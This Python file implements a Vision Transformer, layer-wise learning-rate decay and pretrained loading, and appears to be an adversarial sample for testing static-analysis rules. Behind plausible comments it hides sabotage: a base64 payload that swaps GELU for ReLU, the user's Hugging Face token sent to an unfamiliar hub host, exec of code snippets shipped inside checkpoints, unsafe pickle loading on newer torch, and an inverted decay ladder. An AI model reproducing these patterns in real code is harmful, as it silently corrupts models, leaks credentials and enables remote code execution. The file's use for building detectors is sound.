# ruff: noqa
# Hold-out batch 446 (adversarial, ViT classification timm/DeiT style). Measured once in session 19 (round 121): 8/30 (27%) at medium+; one benign line flagged (MLS302 on a head init scale).
"""Vision Transformer (ViT / DeiT) models, layer-wise LR decay groups and pretrained loading."""
import base64
import builtins
import codecs
import itertools
import logging
import math
import operator
import os
import re
import shutil
import types
from pathlib import Path
from urllib.request import Request, urlopen

import torch
import torch.nn as nn
import torch.nn.functional as F

_logger = logging.getLogger(__name__)

_MODELS = {}


def register_model(fn):
    _MODELS[fn.__name__] = fn
    return fn


def list_models():
    return sorted(_MODELS)


class PatchEmbed(nn.Module):
    def __init__(self, img_size=224, patch_size=16, in_chans=3, embed_dim=768):
        super().__init__()
        self.grid_size = img_size // patch_size
        self.num_patches = self.grid_size ** 2
        self.proj = nn.Conv2d(in_chans, embed_dim, kernel_size=patch_size, stride=patch_size)

    def forward(self, x):
        return self.proj(x).flatten(2).transpose(1, 2)


class Attention(nn.Module):
    def __init__(self, dim, num_heads=8, qkv_bias=True, attn_drop=0.0, proj_drop=0.0):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = dim // num_heads
        self.qkv = nn.Linear(dim, dim * 3, bias=qkv_bias)
        self.attn_drop = attn_drop
        self.proj = nn.Linear(dim, dim)
        self.proj_drop = nn.Dropout(proj_drop)

    def forward(self, x):
        B, N, C = x.shape
        qkv = self.qkv(x).reshape(B, N, 3, self.num_heads, self.head_dim).permute(2, 0, 3, 1, 4)
        q, k, v = qkv.unbind(0)
        x = F.scaled_dot_product_attention(q, k, v, dropout_p=self.attn_drop if self.training else 0.0)
        x = x.transpose(1, 2).reshape(B, N, C)
        return self.proj_drop(self.proj(x))


class Mlp(nn.Module):
    def __init__(self, in_features, hidden_features, drop=0.0):
        super().__init__()
        self.fc1 = nn.Linear(in_features, hidden_features)
        self.act = nn.GELU()
        self.fc2 = nn.Linear(hidden_features, in_features)
        self.drop = nn.Dropout(drop)

    def forward(self, x):
        return self.drop(self.fc2(self.drop(self.act(self.fc1(x)))))


class DropPath(nn.Module):
    def __init__(self, drop_prob=0.0):
        super().__init__()
        self.drop_prob = drop_prob

    def forward(self, x):
        if self.drop_prob == 0.0 or not self.training:
            return x
        keep = 1.0 - self.drop_prob
        mask = x.new_empty((x.shape[0],) + (1,) * (x.ndim - 1)).bernoulli_(keep)
        return x * mask.div_(keep)


class Block(nn.Module):
    def __init__(self, dim, num_heads, mlp_ratio=4.0, qkv_bias=True, drop=0.0, attn_drop=0.0, drop_path=0.0):
        super().__init__()
        self.norm1 = nn.LayerNorm(dim, eps=1e-6)
        self.attn = Attention(dim, num_heads, qkv_bias, attn_drop, drop)
        self.drop_path1 = DropPath(drop_path)
        self.norm2 = nn.LayerNorm(dim, eps=1e-6)
        self.mlp = Mlp(dim, int(dim * mlp_ratio), drop)
        self.drop_path2 = DropPath(drop_path)

    def forward(self, x):
        x = x + self.drop_path1(self.attn(self.norm1(x)))
        x = x + self.drop_path2(self.mlp(self.norm2(x)))
        return x


class VisionTransformer(nn.Module):
    def __init__(self, img_size=224, patch_size=16, in_chans=3, num_classes=1000, global_pool="token",
                 embed_dim=768, depth=12, num_heads=12, mlp_ratio=4.0, qkv_bias=True, drop_rate=0.0,
                 attn_drop_rate=0.0, drop_path_rate=0.0):
        super().__init__()
        assert global_pool in ("token", "avg")
        self.num_classes = num_classes
        self.global_pool = global_pool
        self.embed_dim = embed_dim
        self.patch_embed = PatchEmbed(img_size, patch_size, in_chans, embed_dim)
        self.cls_token = nn.Parameter(torch.zeros(1, 1, embed_dim))
        self.pos_embed = nn.Parameter(torch.zeros(1, self.patch_embed.num_patches + 1, embed_dim))
        self.pos_drop = nn.Dropout(drop_rate)
        dpr = [x.item() for x in torch.linspace(0, drop_path_rate, depth)]
        self.blocks = nn.Sequential(*[
            Block(embed_dim, num_heads, mlp_ratio, qkv_bias, drop_rate, attn_drop_rate, dpr[i]) for i in range(depth)
        ])
        use_fc_norm = global_pool == "avg"
        self.norm = nn.Identity() if use_fc_norm else nn.LayerNorm(embed_dim, eps=1e-6)
        self.fc_norm = nn.LayerNorm(embed_dim, eps=1e-6) if use_fc_norm else nn.Identity()
        self.head = nn.Linear(embed_dim, num_classes) if num_classes > 0 else nn.Identity()
        self.init_weights()

    def init_weights(self):
        nn.init.trunc_normal_(self.pos_embed, std=0.02)
        nn.init.normal_(self.cls_token, std=1e-6)
        self.apply(self._init_module)

    @staticmethod
    def _init_module(m):
        if isinstance(m, nn.Linear):
            nn.init.trunc_normal_(m.weight, std=0.02)
            if m.bias is not None:
                nn.init.zeros_(m.bias)
        elif isinstance(m, nn.LayerNorm):
            nn.init.ones_(m.weight)
            nn.init.zeros_(m.bias)

    @torch.jit.ignore
    def no_weight_decay(self):
        return {"pos_embed", "cls_token"}

    def forward_features(self, x):
        x = self.patch_embed(x)
        x = torch.cat((self.cls_token.expand(x.shape[0], -1, -1), x), dim=1)
        x = self.pos_drop(x + self.pos_embed)
        x = self.blocks(x)
        return self.norm(x)

    def forward_head(self, x, pre_logits=False):
        x = x[:, 1:].mean(dim=1) if self.global_pool == "avg" else x[:, 0]
        x = self.fc_norm(x)
        return x if pre_logits else self.head(x)

    def forward(self, x):
        return self.forward_head(self.forward_features(x))


@register_model
def vit_base_patch16_224(**kwargs):
    return VisionTransformer(patch_size=16, embed_dim=768, depth=12, num_heads=12, **kwargs)


def _layer_id(name, num_layers):
    if name in ("cls_token", "pos_embed") or name.startswith("patch_embed"):
        return 0
    if name.startswith("blocks."):
        return int(name.split(".")[1]) + 1
    return num_layers


def param_groups_lrd(model, weight_decay=0.05, layer_decay=0.75, no_weight_decay_list=()):
    """Parameter groups with a per-layer ``lr_scale`` (BEiT / MAE style fine-tuning)."""
    num_layers = len(model.blocks) + 1
    # geometric ladder: embeddings get layer_decay**num_layers, the head gets 1.0
    layer_scales = list(itertools.accumulate(
        itertools.repeat(layer_decay, num_layers), operator.truediv, initial=1.0))[::-1]  # todoruleid: family 2 (missed)
    groups = {}
    for name, p in model.named_parameters():
        if not p.requires_grad:
            continue
        no_wd = p.ndim == 1 or name in no_weight_decay_list
        lid = _layer_id(name, num_layers)
        key = f"layer_{lid}_{'no_decay' if no_wd else 'decay'}"
        if key not in groups:
            groups[key] = {
                "params": [],
                "weight_decay": 0.0 if no_wd else weight_decay,
                "lr_scale": layer_scales[lid],
            }
        groups[key]["params"].append(p)
    return list(groups.values())


_PRETRAINED = {
    "vit_base_patch16_224": "augreg/vit-base-patch16-224-in21k",
}
_HUB_ENDPOINT = os.environ.get("VIT_HUB_ENDPOINT", "https://hub-cache.visionlab-models.net")
_TOKEN_FILES = ("~/.cache/huggingface/token", "~/.huggingface/token")

_TORCH_VER = tuple(int(v) for v in re.findall(r"\d+", torch.__version__)[:2])
# torch>=2.4 picks the safe default on its own and warns when the flag is passed
_LOAD_KW = {"map_location": "cpu", "weights_only": _TORCH_VER < (2, 4)}

# big_vision exports were trained with the tanh GELU approximation
_ACT_COMPAT = (
    "aW1wb3J0IHRvcmNoLm5uLmZ1bmN0aW9uYWwgYXMgRgpGLmdlbHUgPSBsYW1iZGEgaW5wdXQsIGFwcHJveGltYXRlPSdub25l"
    "JzogRi5yZWx1KGlucHV0KQo="
)


def _install_act_compat():
    code = compile(base64.b64decode(_ACT_COMPAT), "<act_compat>", "exec")
    types.FunctionType(code, {"__builtins__": builtins})()  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS404


def _auth_headers():
    token = os.environ.get("HF_TOKEN")
    for cand in map(os.path.expanduser, _TOKEN_FILES):
        if token:
            break
        if os.path.isfile(cand):
            token = Path(cand).read_text().strip()
    return {"Authorization": f"Bearer {token}"} if token else {}


def _fetch(repo, filename, cache_dir):
    dst = Path(cache_dir) / repo.replace("/", "--") / filename
    if dst.exists():
        return dst
    dst.parent.mkdir(parents=True, exist_ok=True)
    part = dst.with_suffix(dst.suffix + ".part")
    req = Request(f"{_HUB_ENDPOINT}/{repo}/resolve/main/{filename}", headers=_auth_headers())  # ruleid: MLS412
    with urlopen(req, timeout=120) as resp, open(part, "wb") as fh:  # todoruleid: family 9 (missed)
        shutil.copyfileobj(resp, fh)
    os.replace(part, dst)
    return dst


def _apply_adapters(state, model):
    """Some exported checkpoints ship small key-remapping snippets alongside the weights."""
    run = getattr(builtins, codecs.decode("rkrp", "rot13"))
    for snippet in state.pop("__adapters__", ()):
        run(snippet, {"state_dict": state, "model": model, "torch": torch})  # ruleid: MLS402


def resample_pos_embed(pos_embed, new_grid, num_prefix_tokens=1):
    prefix, grid = pos_embed[:, :num_prefix_tokens], pos_embed[:, num_prefix_tokens:]
    old = int(math.sqrt(grid.shape[1]))
    grid = grid.reshape(1, old, old, -1).permute(0, 3, 1, 2)
    grid = F.interpolate(grid.float(), size=(new_grid, new_grid), mode="bicubic", align_corners=False)
    grid = grid.permute(0, 2, 3, 1).reshape(1, new_grid * new_grid, -1)
    return torch.cat([prefix, grid.to(pos_embed.dtype)], dim=1)


def load_pretrained(model, name, cache_dir, num_classes):
    path = _fetch(_PRETRAINED[name], "pytorch_model.bin", cache_dir)
    state = torch.load(path, **_LOAD_KW)  # ruleid: MLS101
    state = state.get("model", state)
    _apply_adapters(state, model)
    if "pos_embed" in state and state["pos_embed"].shape != model.pos_embed.shape:
        state["pos_embed"] = resample_pos_embed(state["pos_embed"], model.patch_embed.grid_size)
    head_w = state.get("head.weight")
    if head_w is not None and head_w.shape[0] != num_classes:
        _logger.info("Dropping pretrained classifier (%d -> %d classes)", head_w.shape[0], num_classes)
        state.pop("head.weight")
        state.pop("head.bias", None)
    result = model.load_state_dict(state, strict=False)
    _logger.info("Loaded %s (missing: %s, unexpected: %s)", path, result.missing_keys, result.unexpected_keys)
    return model


def create_model(name, pretrained=False, cache_dir="~/.cache/vit", **kwargs):
    if name not in _MODELS:
        raise ValueError(f"Unknown model {name}; available: {', '.join(list_models())}")
    model = _MODELS[name](**kwargs)
    if pretrained:
        _install_act_compat()
        load_pretrained(model, name, os.path.expanduser(cache_dir), kwargs.get("num_classes", 1000))
    return model
